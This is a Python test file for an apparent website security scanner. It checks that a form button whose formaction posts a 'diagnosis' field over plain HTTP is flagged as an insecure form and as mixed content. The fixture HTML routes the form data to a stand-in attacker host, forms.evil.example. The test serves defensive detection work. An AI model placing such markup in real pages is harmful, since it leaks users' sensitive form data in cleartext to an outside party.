"""A submit button's formaction is where the form goes when that button is used: every one is checked."""

from __future__ import annotations

from cyberaudit.demo.http_server import Route

from .conftest import SECURE_HEADERS, good_routes


def test_a_submit_buttons_formaction_over_plain_http_fails(site):
    routes = good_routes()
    routes["/contact"] = Route(200, '<form action="/send" method="post"><input name=diagnosis>'
                                    '<button formaction="http://forms.evil.example/collect">Send</button></form>',
                               SECURE_HEADERS)
    scan = site.scan(https=routes)
    assert scan.status("HTTP-FORM-INSECURE-ACTION") == "fail"
    assert scan.status("HTTP-MIXED-CONTENT") == "fail"
    assert [f["action"] for f in scan.facts["insecure_forms"]] == ["http://forms.evil.example/collect"]
